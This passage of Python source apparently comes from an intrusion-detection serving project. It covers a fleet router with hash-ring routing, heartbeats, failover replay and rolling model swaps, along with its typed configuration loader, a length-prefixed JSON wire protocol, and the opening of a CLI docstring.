        self.generation = 0  # best known, from acks and heartbeat vitals
        self.batches_acked = 0
        self.events_acked = 0

    @property
    def routable(self) -> bool:
        return self.alive and not self.held and not self.remote_draining

    @property
    def pending(self) -> int:
        """Events this client still owes: buffered + unacknowledged."""
        return len(self.buffer) + sum(len(events) for events in self.unacked.values())


class FleetRouter:
    """Route an event stream across a fleet of :class:`FleetNode` s.

    Parameters
    ----------
    config:
        The ``[fleet]`` block: node addresses, ring width, batching,
        window size, heartbeat cadence.  ``config.nodes`` must name at
        least one node, and every node must be reachable at
        :meth:`start` (a fleet that begins degraded is a deploy error,
        not a runtime condition).
    heartbeats:
        Disable to drive liveness purely from ingest-connection
        failures — deterministic tests use this; production keeps it on.
    """

    def __init__(self, config: FleetConfig, *, heartbeats: bool = True):
        if not config.nodes:
            raise FleetError("fleet.nodes is empty: a router needs at least one node")
        self.config = config
        self._heartbeats_enabled = heartbeats
        self._clients: dict[str, _NodeClient] = {}
        self._ring: HashRing | None = None
        self._detector = FailureDetector(config.suspicion_misses)
        self._flusher_task: asyncio.Task | None = None
        self._batch_seq = 0
        self._heartbeat_seq = 0
        self._started = False
        # an event becomes an orphan only when every node is gone; kept
        # (not dropped) so a post-mortem can account for it
        self._orphans: list[_Event] = []
        #: recent acks, newest last — tests read ``generations`` off these
        self.acks: deque[dict] = deque(maxlen=65536)
        #: human-readable failover/swap log, newest last
        self.log: deque[str] = deque(maxlen=256)
        self.events_submitted = 0
        self.events_replayed = 0
        self.batches_sent = 0
        self.batches_nacked = 0
        self.nodes_evicted = 0

    # -- lifecycle ---------------------------------------------------------

    async def start(self) -> "FleetRouter":
        """Connect to every configured node and start routing."""
        if self._started:
            return self
        for address in self.config.nodes:
            client = _NodeClient(
                address, max_inflight=self.config.max_inflight_batches
            )
            try:
                client.reader, client.writer = await asyncio.wait_for(
                    asyncio.open_connection(client.host, client.port),
                    timeout=self.config.connect_timeout_seconds,
                )
            except (OSError, asyncio.TimeoutError) as exc:
                await self._close_clients()
                raise FleetError(f"cannot connect to fleet node {address}: {exc}") from exc
            self._clients[address] = client
            self._detector.add(address)
        for client in self._clients.values():
            client.reader_task = asyncio.ensure_future(self._read_acks(client))
            if self._heartbeats_enabled:
                client.heartbeat_task = asyncio.ensure_future(self._heartbeat(client))
        self._rebuild_ring()
        self._flusher_task = asyncio.ensure_future(self._flush_on_deadline())
        self._started = True
        return self

    async def stop(self) -> None:
        """Drain what can be drained, then tear every connection down."""
        if self._started:
            try:
                await self.drain(timeout=self.config.drain_timeout_seconds)
            except FleetError:
                pass  # stopping a degraded fleet must still stop it
        tasks = [self._flusher_task]
        for client in self._clients.values():
            tasks.extend((client.reader_task, client.heartbeat_task))
        for task in tasks:
            if task is not None:
                task.cancel()
        for task in tasks:
            if task is not None:
                try:
                    await task
                except (asyncio.CancelledError, Exception):
                    pass
        await self._close_clients()
        self._started = False

    async def _close_clients(self) -> None:
        for client in self._clients.values():
            if client.writer is not None:
                client.writer.close()
                client.writer = None

    async def __aenter__(self) -> "FleetRouter":
        return await self.start()

    async def __aexit__(self, *exc_info) -> None:
        await self.stop()

    # -- introspection -----------------------------------------------------

    @property
    def live_nodes(self) -> list[str]:
        """Addresses still in service (evicted nodes excluded)."""
        return [c.address for c in self._clients.values() if c.alive]

    @property
    def ring(self) -> HashRing | None:
        return self._ring

    def owner_of(self, host: str) -> str:
        """Which node currently owns *host* (routing probe for tests)."""
        if self._ring is None:
            raise FleetError("no live nodes left in the fleet")
        return self._ring.route(host)

    def stats(self) -> dict:
        return {
            "events_submitted": self.events_submitted,
            "events_replayed": self.events_replayed,
            "batches_sent": self.batches_sent,
            "batches_nacked": self.batches_nacked,
            "nodes_evicted": self.nodes_evicted,
            "orphaned_events": len(self._orphans),
            "live_nodes": self.live_nodes,
            "pending": {
                c.address: c.pending for c in self._clients.values() if c.alive
            },
        }

    # -- submission --------------------------------------------------------

    async def submit(
        self,
        line: str | CommandEvent,
        host: str = "-",
        timestamp: float | None = None,
    ) -> None:
        """Route one event (buffered; sent on fill or deadline)."""
        if isinstance(line, CommandEvent):
            event = (line.line, line.host, line.timestamp)
        else:
            event = (line, host, timestamp)
        await self._enqueue(event)

    async def submit_many(self, events: Iterable[str | CommandEvent]) -> None:
        """Route a batch of events (strings or :class:`CommandEvent`)."""
        for item in events:
            if isinstance(item, CommandEvent):
                await self._enqueue((item.line, item.host, item.timestamp))
            else:
                await self._enqueue((item, "-", None))

    async def _enqueue(self, event: _Event) -> None:
        if self._ring is None:
            raise FleetError("no live nodes left in the fleet")
        client = self._clients[self._ring.route(event[1])]
        if client.buffer_since is None:
            client.buffer_since = time.perf_counter()
        client.buffer.append(event)
        self.events_submitted += 1
        if len(client.buffer) >= self.config.batch_max_events:
            await self._flush_client(client)

    async def flush(self) -> None:
        """Send every buffered event now, regardless of batch deadlines."""
        for client in list(self._clients.values()):
            if client.alive:
                await self._flush_client(client)

    async def drain(self, timeout: float | None = None) -> dict:
        """Flush, then wait until every sent batch is acknowledged.

        Returns :meth:`stats`.  Raises :class:`FleetError` if the fleet
        cannot settle within *timeout* seconds (default: the config's
        ``drain_timeout_seconds``) or if events were orphaned because
        every node died.
        """
        deadline = time.perf_counter() + (
            self.config.drain_timeout_seconds if timeout is None else timeout
        )
        while True:
            await self.flush()
            if not any(c.pending for c in self._clients.values() if c.alive):
                break
            if time.perf_counter() > deadline:
                pending = {
                    c.address: c.pending
                    for c in self._clients.values()
                    if c.alive and c.pending
                }
                raise FleetError(f"fleet did not drain in time; still pending: {pending}")
            await asyncio.sleep(0.005)
        if self._orphans:
            raise FleetError(
                f"{len(self._orphans)} events orphaned: every fleet node died"
            )
        return self.stats()

    # -- batching / sending ------------------------------------------------

    async def _flush_client(self, client: _NodeClient) -> None:
        while client.buffer and client.alive:
            batch = client.buffer[: self.config.batch_max_events]
            del client.buffer[: len(batch)]
            client.buffer_since = time.perf_counter() if client.buffer else None
            await self._send_batch(client, batch)
        if not client.buffer:
            client.buffer_since = None

    async def _send_batch(self, client: _NodeClient, events: list[_Event]) -> None:
        await client.window.acquire()  # backpressure: bounded in-flight window
        if not client.alive:
            # evicted while we waited — hand the events to the survivors
            self._reroute(events)
            return
        self._batch_seq += 1
        batch_id = self._batch_seq
        client.unacked[batch_id] = events
        assert client.writer is not None
        try:
            await write_frame(client.writer, ingest_message(batch_id, events))
        except (OSError, ConnectionError) as exc:
            await self._evict(client, f"send failed: {exc}")
            return
        self.batches_sent += 1

    def _reroute(self, events: list[_Event]) -> None:
        """Re-bucket *events* by host on the current ring (post-failure)."""
        if self._ring is None:
            self._orphans.extend(events)
            return
        now = time.perf_counter()
        for event in events:
            client = self._clients[self._ring.route(event[1])]
            if client.buffer_since is None:
                client.buffer_since = now
            client.buffer.append(event)

    async def _flush_on_deadline(self) -> None:
        """Background latency flusher: the fill-*or-deadline* half."""
        interval = self.config.batch_max_latency_ms / 1000.0 / 4
        deadline = self.config.batch_max_latency_ms / 1000.0
        while True:
            await asyncio.sleep(interval)
            now = time.perf_counter()
            for client in list(self._clients.values()):
                if (
                    client.alive
                    and client.buffer
                    and client.buffer_since is not None
                    and now - client.buffer_since >= deadline
                ):
                    await self._flush_client(client)

    # -- ack / nack handling -----------------------------------------------

    async def _read_acks(self, client: _NodeClient) -> None:
        """Drain one node's responses for the life of its connection."""
        assert client.reader is not None
        try:
            while True:
                message = await read_frame(client.reader)
                if message is None:
                    if client.alive:
                        await self._evict(client, "connection closed by node")
                    return
                kind = message.get("type")
                if kind == "ack":
                    self._handle_ack(client, message)
                elif kind == "nack":
                    self._handle_nack(client, message)
                elif kind == "error":
                    # the node refused a frame wholesale; treat like a nack
                    # of the oldest in-flight batch so nothing is stranded
                    self.log.append(f"{client.address} error: {message.get('error')}")
                    self._nack_oldest(client)
        except FleetError as exc:
            if client.alive:
                await self._evict(client, f"protocol error: {exc}")
        except asyncio.CancelledError:
            raise

    def _handle_ack(self, client: _NodeClient, message: dict) -> None:
        events = client.unacked.pop(message.get("batch_id"), None)
        if events is None:
            return  # duplicate or post-eviction ack
        client.window.release()
        client.batches_acked += 1
        client.events_acked += len(events)
        generations = message.get("generations") or []
        if generations:
            client.generation = max(client.generation, max(generations))
        self.acks.append(message)

    def _handle_nack(self, client: _NodeClient, message: dict) -> None:
        events = client.unacked.pop(message.get("batch_id"), None)
        if events is None:
            return
        client.window.release()
        self.batches_nacked += 1
        if message.get("reason") == "draining" and not client.remote_draining:
            # the node told us it is draining before a heartbeat could:
            # stop routing to it so the re-routed events cannot bounce back
            client.remote_draining = True
            self._rebuild_ring()
            self.log.append(f"{client.address} draining (nack); rerouting its hosts")
        self._reroute(events)

    def _nack_oldest(self, client: _NodeClient) -> None:
        if not client.unacked:
            return
        batch_id, events = client.unacked.popitem(last=False)
        client.window.release()
        self.batches_nacked += 1
        self._reroute(events)

    # -- failure detection / eviction --------------------------------------

    async def _heartbeat(self, client: _NodeClient) -> None:
        """Probe one node on its own connection until it dies.

        A dedicated connection (opened lazily here, not the ingest one)
        means a node busy scoring a large batch still answers probes
        immediately — its handler coroutines are independent per
        connection — so load never masquerades as death.
        """
        reader: asyncio.StreamReader | None = None
        writer: asyncio.StreamWriter | None = None
        while client.alive:
            await asyncio.sleep(self.config.heartbeat_interval_seconds)
            if not client.alive:
                return
            self._heartbeat_seq += 1
            try:
                if writer is None:
                    reader, writer = await asyncio.wait_for(
                        asyncio.open_connection(client.host, client.port),
                        timeout=self.config.heartbeat_timeout_seconds,
                    )
                await write_frame(writer, heartbeat_message(self._heartbeat_seq))
                assert reader is not None
                answer = await asyncio.wait_for(
                    read_frame(reader),
                    timeout=self.config.heartbeat_timeout_seconds,
                )
                if answer is None or answer.get("type") != "heartbeat_ack":
                    raise FleetError(f"bad heartbeat answer: {answer!r}")
            except (OSError, ConnectionError, FleetError, asyncio.TimeoutError):
                if writer is not None:
                    writer.close()
                    reader = writer = None
                state = self._detector.record_miss(client.address)
                if state == DEAD and client.alive:
                    await self._evict(client, "heartbeats missed")
                    return
                continue
            self._detector.record_ok(
                client.address,
                now=time.time(),
                vitals={
                    "generation": answer.get("generation"),
                    "draining": answer.get("draining"),
                    "events_total": answer.get("events_total"),
                },
            )
            generation = answer.get("generation")
            if isinstance(generation, int):
                client.generation = max(client.generation, generation)
            draining = bool(answer.get("draining"))
            if draining != client.remote_draining:
                client.remote_draining = draining
                self._rebuild_ring()
                self.log.append(
                    f"{client.address} {'entered' if draining else 'left'} drain"
                )
        if writer is not None:
            writer.close()

    async def _evict(self, client: _NodeClient, reason: str) -> None:
        """Declare a node dead: reassign its hosts, replay its batches."""
        if not client.alive:
            return
        client.alive = False
        self._detector.mark_dead(client.address)
        self.nodes_evicted += 1
        self.log.append(f"evicted {client.address}: {reason}")
        if client.writer is not None:
            client.writer.close()
            client.writer = None
        # wake every sender blocked on the window; they see alive=False
        # and reroute their batch themselves
        for _ in range(self.config.max_inflight_batches):
            client.window.release()
        pending: list[_Event] = []
        while client.unacked:
            _, events = client.unacked.popitem(last=False)
            pending.extend(events)
        pending.extend(client.buffer)
        client.buffer.clear()
        client.buffer_since = None
        self._rebuild_ring()
        self.events_replayed += len(pending)
        self._reroute(pending)  # at-least-once: replay, never drop

    def _rebuild_ring(self) -> None:
        members = [c.address for c in self._clients.values() if c.routable]
        if not members:
            # every node dead or parked: freeze routing; submit()/drain()
            # will surface FleetError rather than silently dropping
            self._ring = None
            return
        self._ring = HashRing(members, virtual_nodes=self.config.virtual_nodes)

    # -- control plane ------------------------------------------------------

    async def _admin_request(
        self, address: str, message: dict, *, timeout: float | None = None
    ) -> dict:
        """One admin round-trip on a fresh connection (not the ingest one)."""
        host, port = parse_address(address)
        timeout = self.config.connect_timeout_seconds if timeout is None else timeout
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(host, port), timeout=timeout
            )
        except (OSError, asyncio.TimeoutError) as exc:
            raise FleetError(f"cannot reach {address} for admin request: {exc}") from exc
        try:
            await write_frame(writer, message)
            answer = await asyncio.wait_for(read_frame(reader), timeout=timeout)
        except (OSError, ConnectionError, asyncio.TimeoutError) as exc:
            raise FleetError(f"admin request to {address} failed: {exc}") from exc
        finally:
            writer.close()
        if answer is None:
            raise FleetError(f"{address} closed the connection without answering")
        if answer.get("type") == "error":
            raise FleetError(f"{address} rejected admin request: {answer.get('error')}")
        return answer

    async def status(self) -> dict:
        """Fleet-wide status: per-node payloads + merged metrics.

        The merged half is :meth:`ServingMetrics.merged` over every
        node's lossless metrics snapshot, so fleet totals (events,
        alerts, cache hits) are exact sums and fleet latency
        percentiles come from the concatenated reservoirs.
        """
        nodes = []
        snapshots = []
        for address in self.live_nodes:
            answer = await self._admin_request(address, admin_message("status"))
            if not answer.get("ok", False):
                raise FleetError(f"{address} refused status: {answer.get('error')}")
            metrics = answer.pop("metrics", None)
            nodes.append(answer)
            if metrics is not None:
                snapshots.append(ServingMetrics.from_dict(metrics))
        merged = ServingMetrics.merged(snapshots) if snapshots else ServingMetrics()
        return {
            "nodes": nodes,
            "merged": merged.snapshot(),
            "router": self.stats(),
            "membership": self._detector.snapshot(),
        }

    async def merged_metrics(self) -> ServingMetrics:
        """The fleet's metrics as one :class:`ServingMetrics` object."""
        snapshots = []
        for address in self.live_nodes:
            answer = await self._admin_request(address, admin_message("metrics"))
            if not answer.get("ok", False):
                raise FleetError(f"{address} refused metrics: {answer.get('error')}")
            snapshots.append(ServingMetrics.from_dict(answer["metrics"]))
        if not snapshots:
            raise FleetError("no live nodes left in the fleet")
        return ServingMetrics.merged(snapshots)

    async def swap_fleet(
        self, bundle_ref: str, *, drain_timeout: float | None = None
    ) -> list[dict]:
        """Roll a new model across the fleet, one node at a time.

        For each live node, in a stable order: park it out of the ring
        (new traffic flows to the others), flush and drain its window
        (in-flight batches finish on the *old* model — the per-node swap
        barrier means none of them can straddle generations), issue a
        ``swap`` fenced on the node's current generation, verify the
        node landed on ``generation + 1``, and put it back in the ring.
        After the roll, every node must agree on one generation.

        Returns the per-node swap reports.  Raises
        :class:`FleetError` — with the node back in the ring — if any
        node refuses the fence or fails the swap, so a partial roll
        never strands capacity.
        """
        reports: list[dict] = []
        for address in list(self._clients):
            client = self._clients[address]
            if not client.alive:
                continue
            client.held = True
            self._rebuild_ring()
            try:
                await self._drain_client(client, timeout=drain_timeout)
                status = await self._admin_request(address, admin_message("status"))
                expect = status.get("generation")
                answer = await self._admin_request(
                    address,
                    admin_message(
                        "swap", bundle=bundle_ref, expect_generation=expect
                    ),
                )
                if not answer.get("ok", False):
                    raise FleetError(f"{address} refused swap: {answer.get('error')}")
                if answer.get("generation") != expect + 1:
                    raise FleetError(
                        f"{address} swapped to generation {answer.get('generation')}, "
                        f"expected {expect + 1}"
                    )
                client.generation = answer["generation"]
                reports.append(answer)
                self.log.append(
                    f"swapped {address} to generation {answer['generation']}"
                )
            finally:
                client.held = False
                self._rebuild_ring()
        generations = {report["generation"] for report in reports}
        if len(generations) > 1:
            raise FleetError(
                f"fleet did not converge after rolling swap: generations {generations}"
            )
        return reports

    async def _drain_client(
        self, client: _NodeClient, *, timeout: float | None = None
    ) -> None:
        """Wait until one node has nothing buffered or in flight."""
        deadline = time.perf_counter() + (
            self.config.drain_timeout_seconds if timeout is None else timeout
        )
        while client.alive and client.pending:
            await self._flush_client(client)
            if time.perf_counter() > deadline:
                raise FleetError(
                    f"{client.address} did not drain in time "
                    f"({client.pending} events pending)"
                )
            await asyncio.sleep(0.005)

    async def drain_node(self, address: str) -> None:
        """Tell one node to drain and stop routing to it (admin verb)."""
        if address not in self._clients:
            raise FleetError(f"unknown fleet node {address}")
        answer = await self._admin_request(address, admin_message("drain"))
        if not answer.get("ok", False):
            raise FleetError(f"{address} refused drain: {answer.get('error')}")
        client = self._clients[address]
        client.remote_draining = True
        self._rebuild_ring()
        await self._drain_client(client)

    async def resize_node(self, address: str, workers: int) -> dict:
        """Resize one node's scoring backend pool (admin verb)."""
        answer = await self._admin_request(
            address, admin_message("resize", workers=workers)
        )
        if not answer.get("ok", False):
            raise FleetError(f"{address} refused resize: {answer.get('error')}")
        return answer
