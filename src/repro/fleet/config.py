"""Typed configuration for the multi-node fleet (the ``[fleet]`` block).

One TOML/JSON file describes a whole deployment: the standard serving
tables (``batch`` / ``cache`` / ``backend`` / ...) configure what every
node runs, and one extra ``[fleet]`` table configures how the nodes are
tied together::

    [fleet]
    nodes = ["127.0.0.1:9101", "127.0.0.1:9102", "127.0.0.1:9103"]
    heartbeat_interval_seconds = 0.5
    suspicion_misses = 3
    batch_max_events = 256
    batch_max_latency_ms = 50.0

    [shards]
    count = 2
    ...

``repro-ids fleet-node`` reads the serving tables (plus its ``--bind``
address), ``repro-ids fleet-route`` and ``fleet-admin`` read the
``[fleet]`` table — :func:`load_fleet_file` splits one file into both
views, so the fleet has a single deployment artifact.  Validation
follows the serving-config contract: frozen dataclasses, fail at parse
time with the dotted path of the offending key, lossless
``to_dict``/``from_dict`` round-trip.
"""

from __future__ import annotations

import json
import tomllib
from dataclasses import dataclass, fields
from pathlib import Path
from typing import Any

from repro.errors import ConfigError
from repro.serving.config import (
    ServingConfig,
    _as_float,
    _as_int,
    _reject_unknown_keys,
    _require_mapping,
)


def parse_address(address: str, path: str = "fleet.nodes[?]") -> tuple[str, int]:
    """Split a ``host:port`` node address, validating both halves."""
    if not isinstance(address, str) or ":" not in address:
        raise ConfigError(
            f"{path} must be a 'host:port' string (got {address!r})"
        )
    host, _, port_text = address.rpartition(":")
    try:
        port = int(port_text)
    except ValueError:
        raise ConfigError(
            f"{path}: port must be an integer (got {address!r})"
        ) from None
    if not host or not (0 <= port <= 65535):
        raise ConfigError(
            f"{path}: need a non-empty host and a port in [0, 65535] (got {address!r})"
        )
    return host, port


@dataclass(frozen=True)
class FleetConfig:
    """How N serving nodes act as one detector.

    Attributes
    ----------
    nodes:
        ``host:port`` ingest addresses of the fleet's nodes.  The
        router consistent-hashes ``event.host`` across them; order is
        irrelevant to routing (the ring hashes addresses, not indexes).
    virtual_nodes:
        Hash-ring points per node (same knob as ``shards.virtual_nodes``
        one level down).
    heartbeat_interval_seconds / heartbeat_timeout_seconds:
        Probe cadence and per-probe answer deadline.
    suspicion_misses:
        Consecutive missed heartbeats after which a node is evicted,
        its hosts reassigned, and its unacknowledged batches replayed.
    batch_max_events / batch_max_latency_ms:
        Client-side batching per node: a node's buffered events are
        framed and sent when the batch fills or the oldest buffered
        event reaches the deadline, whichever first (the fleet-level
        twin of the server's micro-batch policy).
    max_inflight_batches:
        Bound on unacknowledged batches per node; a full window blocks
        the sender (backpressure), and everything in it is replayed if
        the node dies.
    connect_timeout_seconds:
        TCP connect deadline per node.
    drain_timeout_seconds:
        How long ``drain()`` / rolling swap may wait for a node's
        window to empty before declaring the fleet stuck.
    """

    nodes: tuple[str, ...] = ()
    virtual_nodes: int = 64
    heartbeat_interval_seconds: float = 0.5
    heartbeat_timeout_seconds: float = 2.0
    suspicion_misses: int = 3
    batch_max_events: int = 256
    batch_max_latency_ms: float = 50.0
    max_inflight_batches: int = 4
    connect_timeout_seconds: float = 5.0
    drain_timeout_seconds: float = 30.0

    def __post_init__(self):
        nodes = tuple(self.nodes)
        for index, address in enumerate(nodes):
            parse_address(address, path=f"fleet.nodes[{index}]")
        if len(set(nodes)) != len(nodes):
            raise ConfigError(f"fleet.nodes contains duplicate addresses: {nodes}")
        object.__setattr__(self, "nodes", nodes)
        _as_int(self.virtual_nodes, "fleet.virtual_nodes", 1)
        for name in ("heartbeat_interval_seconds", "heartbeat_timeout_seconds"):
            object.__setattr__(
                self,
                name,
                _as_float(getattr(self, name), f"fleet.{name}", 0.0, exclusive=True),
            )
        _as_int(self.suspicion_misses, "fleet.suspicion_misses", 1)
        _as_int(self.batch_max_events, "fleet.batch_max_events", 1)
        object.__setattr__(
            self,
            "batch_max_latency_ms",
            _as_float(
                self.batch_max_latency_ms, "fleet.batch_max_latency_ms", 0.0, exclusive=True
            ),
        )
        _as_int(self.max_inflight_batches, "fleet.max_inflight_batches", 1)
        for name in ("connect_timeout_seconds", "drain_timeout_seconds"):
            object.__setattr__(
                self,
                name,
                _as_float(getattr(self, name), f"fleet.{name}", 0.0, exclusive=True),
            )

    @property
    def addresses(self) -> list[tuple[str, int]]:
        """The node addresses as ``(host, port)`` pairs."""
        return [parse_address(address) for address in self.nodes]

    @classmethod
    def from_dict(cls, data: Any, path: str = "fleet") -> "FleetConfig":
        data = _require_mapping(data, path)
        _reject_unknown_keys(data, tuple(f.name for f in fields(cls)), path)
        raw_nodes = data.get("nodes", ())
        if not isinstance(raw_nodes, (list, tuple)):
            raise ConfigError(
                f"{path}.nodes must be an array of 'host:port' strings "
                f"(got {raw_nodes!r})"
            )
        return cls(**{**data, "nodes": tuple(raw_nodes)})

    def to_dict(self) -> dict:
        return {
            "nodes": list(self.nodes),
            "virtual_nodes": self.virtual_nodes,
            "heartbeat_interval_seconds": self.heartbeat_interval_seconds,
            "heartbeat_timeout_seconds": self.heartbeat_timeout_seconds,
            "suspicion_misses": self.suspicion_misses,
            "batch_max_events": self.batch_max_events,
            "batch_max_latency_ms": self.batch_max_latency_ms,
            "max_inflight_batches": self.max_inflight_batches,
            "connect_timeout_seconds": self.connect_timeout_seconds,
            "drain_timeout_seconds": self.drain_timeout_seconds,
        }

    @classmethod
    def from_file(cls, path: str | Path) -> "FleetConfig":
        """The ``[fleet]`` table of a deployment file (defaults if absent)."""
        fleet, _ = load_fleet_file(path)
        return fleet


def _read_deployment(path: str | Path) -> dict:
    path = Path(path)
    suffix = path.suffix.lower()
    if suffix not in (".toml", ".json"):
        raise ConfigError(f"config file must end in .toml or .json (got '{path}')")
    try:
        text = path.read_bytes()
    except OSError as exc:
        raise ConfigError(f"cannot read config file {path}: {exc}") from exc
    try:
        if suffix == ".toml":
            return tomllib.loads(text.decode("utf-8"))
        return json.loads(text.decode("utf-8"))
    except (tomllib.TOMLDecodeError, json.JSONDecodeError, UnicodeDecodeError) as exc:
        raise ConfigError(f"config file {path} does not parse: {exc}") from exc


def load_fleet_file(path: str | Path) -> tuple[FleetConfig, ServingConfig]:
    """Split one deployment file into its fleet and serving views.

    The ``fleet`` table becomes the :class:`FleetConfig`; everything
    else is the per-node :class:`~repro.serving.config.ServingConfig`.
    Either half may be absent (defaults apply), so the same loader
    serves ``fleet-node`` (which only needs the serving half),
    ``fleet-route`` (which only needs the fleet half), and tests that
    want both from one artifact.
    """
    data = _read_deployment(path)
    data = _require_mapping(data, str(path))
    fleet_raw = data.pop("fleet", None)
    fleet = (
        FleetConfig()
        if fleet_raw is None
        else FleetConfig.from_dict(fleet_raw, path=f"{path}:fleet")
    )
    serving = ServingConfig.from_dict(data, path=str(path)) if data else ServingConfig()
    return fleet, serving
