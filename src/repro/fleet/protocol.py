"""The fleet wire protocol: length-prefixed newline-JSON frames.

Everything the fleet says on the wire — event batches, heartbeats,
admin verbs, metrics snapshots — travels as one framing: an ASCII
decimal byte length, a newline, the UTF-8 JSON payload, a newline::

    142\\n{"type":"ingest","batch_id":7,"events":[...]}\\n

This extends the newline-delimited JSON idiom of
:class:`~repro.serving.sinks.TcpSocketSink` with an explicit length
prefix, so a reader never has to scan an unbounded stream for the
delimiter (command lines may be megabytes of attacker-controlled
bytes), can pre-allocate, and can reject oversized frames before
buffering them.  The trailing newline keeps frames greppable on the
wire and self-checking: a frame whose payload is not followed by
``\\n`` is corrupt, not short.

Message *types* (the ``"type"`` key of every frame):

====================  =====================================================
``ingest``            ``batch_id`` + ``events`` ``[[line, host, ts], ...]``
``ack`` / ``nack``    per-batch outcome (counts + generations, or a reason)
``heartbeat``         liveness probe → ``heartbeat_ack`` with node vitals
``admin``             control verb: status / metrics / swap / resize /
                      drain / undrain → ``admin_ack`` (or ``error``)
``error``             the peer could not process the frame
====================  =====================================================

Async helpers (:func:`read_frame` / :func:`write_frame`) serve the
asyncio node and router; the blocking :class:`FleetChannel` serves the
synchronous ``fleet-admin`` CLI.  Both sides of every exchange are
plain dicts — the protocol stays debuggable with ``nc``.
"""

from __future__ import annotations

import asyncio
import json
import socket
from typing import Any

from repro.errors import FleetError

#: Frames above this many payload bytes are rejected before buffering —
#: large enough for a 10k-event batch of long command lines, small
#: enough that a corrupt or hostile length prefix cannot balloon memory.
MAX_FRAME_BYTES = 64 * 1024 * 1024

PROTOCOL_VERSION = 1


def encode_frame(message: dict) -> bytes:
    """One message dict as its on-wire frame."""
    payload = json.dumps(message, separators=(",", ":")).encode("utf-8")
    if len(payload) > MAX_FRAME_BYTES:
        raise FleetError(
            f"frame of {len(payload)} bytes exceeds MAX_FRAME_BYTES "
            f"({MAX_FRAME_BYTES}); split the batch"
        )
    return b"%d\n%s\n" % (len(payload), payload)


def _decode_header(header: bytes) -> int:
    try:
        length = int(header)
    except ValueError:
        raise FleetError(f"malformed frame header {header!r} (expected a byte length)")
    if length < 0 or length > MAX_FRAME_BYTES:
        raise FleetError(f"frame length {length} outside [0, {MAX_FRAME_BYTES}]")
    return length


def _decode_payload(payload: bytes) -> dict:
    if not payload.endswith(b"\n"):
        raise FleetError("corrupt frame: payload not terminated by newline")
    try:
        message = json.loads(payload[:-1])
    except (json.JSONDecodeError, UnicodeDecodeError) as exc:
        raise FleetError(f"frame payload is not valid JSON: {exc}") from exc
    if not isinstance(message, dict) or "type" not in message:
        raise FleetError(f"frame payload must be an object with a 'type' (got {message!r})")
    return message


async def read_frame(reader: asyncio.StreamReader) -> dict | None:
    """Read one frame from *reader*; ``None`` on a clean EOF.

    A truncated frame (EOF mid-payload) or a malformed header raises
    :class:`~repro.errors.FleetError` — a half-delivered batch must
    fail loudly, never parse as a shorter one.
    """
    try:
        header = await reader.readline()
    except (ConnectionError, asyncio.LimitOverrunError) as exc:
        raise FleetError(f"connection failed mid-frame: {exc}") from exc
    if not header:
        return None
    length = _decode_header(header)
    try:
        payload = await reader.readexactly(length + 1)  # + trailing newline
    except asyncio.IncompleteReadError as exc:
        raise FleetError(
            f"truncated frame: expected {length + 1} payload bytes, "
            f"got {len(exc.partial)}"
        ) from exc
    return _decode_payload(payload)


async def write_frame(writer: asyncio.StreamWriter, message: dict) -> None:
    """Write one message dict as a frame and drain the transport."""
    writer.write(encode_frame(message))
    await writer.drain()


# -- message constructors ----------------------------------------------------
#
# Kept as functions (not classes) so both ends build and pattern-match
# plain dicts; the constructors centralise key names in one place.


def ingest_message(batch_id: int, events: list[tuple[str, str, float | None]]) -> dict:
    """An event batch: ``events`` is ``[(line, host, timestamp), ...]``."""
    return {
        "type": "ingest",
        "batch_id": batch_id,
        "events": [[line, host, timestamp] for line, host, timestamp in events],
    }


def ack_message(
    batch_id: int,
    *,
    events: int,
    dropped: int,
    intrusions: int,
    alerts: int,
    generations: list[int],
) -> dict:
    return {
        "type": "ack",
        "batch_id": batch_id,
        "events": events,
        "dropped": dropped,
        "intrusions": intrusions,
        "alerts": alerts,
        "generations": generations,
    }


def nack_message(batch_id: int, reason: str) -> dict:
    """The node refused the batch (e.g. draining); the router must
    re-route it — a nacked batch was **not** processed."""
    return {"type": "nack", "batch_id": batch_id, "reason": reason}


def heartbeat_message(seq: int) -> dict:
    return {"type": "heartbeat", "seq": seq}


def admin_message(verb: str, **fields: Any) -> dict:
    return {"type": "admin", "verb": verb, **fields}


def error_message(error: str) -> dict:
    return {"type": "error", "error": error}


def decode_events(message: dict) -> list[tuple[str, str, float | None]]:
    """The ``(line, host, timestamp)`` tuples of an ``ingest`` frame."""
    raw = message.get("events")
    if not isinstance(raw, list):
        raise FleetError(f"ingest frame without an events array: {message!r}")
    events = []
    for entry in raw:
        if not isinstance(entry, list) or len(entry) != 3:
            raise FleetError(f"malformed ingest event {entry!r} (want [line, host, ts])")
        line, host, timestamp = entry
        events.append(
            (str(line), str(host), None if timestamp is None else float(timestamp))
        )
    return events


# -- synchronous channel (CLI / scripts) --------------------------------------


class FleetChannel:
    """A blocking request/response channel to one fleet node.

    The synchronous twin of the asyncio helpers, for the
    ``repro-ids fleet-admin`` CLI and smoke scripts: connect, make one
    or more :meth:`request` round-trips, close.  Usable as a context
    manager.
    """

    def __init__(self, host: str, port: int, *, timeout: float = 10.0):
        self.host = host
        self.port = int(port)
        self.timeout = timeout
        self._sock: socket.socket | None = None
        self._file = None

    def connect(self) -> "FleetChannel":
        if self._sock is None:
            self._sock = socket.create_connection(
                (self.host, self.port), timeout=self.timeout
            )
            self._file = self._sock.makefile("rb")
        return self

    def request(self, message: dict) -> dict:
        """Send one frame and block for the response frame."""
        self.connect()
        assert self._sock is not None and self._file is not None
        self._sock.sendall(encode_frame(message))
        header = self._file.readline()
        if not header:
            raise FleetError(
                f"node {self.host}:{self.port} closed the connection mid-request"
            )
        length = _decode_header(header)
        payload = self._file.read(length + 1)
        if payload is None or len(payload) != length + 1:
            raise FleetError(f"truncated response frame from {self.host}:{self.port}")
        return _decode_payload(payload)

    def close(self) -> None:
        if self._file is not None:
            try:
                self._file.close()
            finally:
                self._file = None
        if self._sock is not None:
            try:
                self._sock.close()
            finally:
                self._sock = None

    def __enter__(self) -> "FleetChannel":
        return self.connect()

    def __exit__(self, *exc_info) -> None:
        self.close()
