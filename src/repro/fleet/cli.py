"""``repro-ids fleet-node`` / ``fleet-route`` / ``fleet-admin``.

Three entry points that together run a fleet from shells:

``fleet-node``
    One serving node: load a bundle (or train the demo service), build
    a :class:`~repro.serving.server.DetectionServer` from the
    deployment file's serving tables, and listen on ``--bind``.

``fleet-route``
    The ingest frontend: connect to every node in the deployment
    file's ``[fleet]`` table, stream a file or stdin through the
    fleet, drain, and print the merged fleet metrics.

``fleet-admin``
    Control plane, one verb per invocation::

        repro-ids fleet-admin --config fleet.toml status
        repro-ids fleet-admin --config fleet.toml swap ./new-bundle
